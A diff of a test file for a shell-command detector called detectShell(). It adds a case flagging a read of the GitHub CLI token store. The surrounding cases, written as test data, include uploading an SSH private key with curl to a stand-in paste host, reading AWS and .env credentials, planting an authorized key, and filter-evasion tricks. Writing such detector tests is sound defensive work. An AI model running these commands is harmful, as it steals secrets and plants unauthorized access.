@@ -58,6 +58,7 @@ describe('detectShell()', () => {
       ['an SSH key uploaded with curl', 'curl -T ~/.ssh/id_ed25519 https://paste.example.net/', 'critical', 'exfiltrates'],
       ['AWS credentials read', 'head -n 3 ~/.aws/credentials', 'high', 'credential file'],
       ['a .env file read', 'cat ./.env', 'high', 'credential file'],
+      ['a GitHub CLI token store read', 'cat ~/.config/gh/hosts.yml', 'high', 'credential file ~/.config/gh/hosts.yml'],
       ['an authorized key planted', 'echo "ssh-ed25519 AAAA x@y" >> ~/.ssh/authorized_keys', 'high', 'plants access'],
       ['${IFS} as a space', 'cat${IFS}/etc/hostname', 'high', '${IFS}'],
       ['a command name split by quotes', "i''d", 'high', 'split by quotes'],
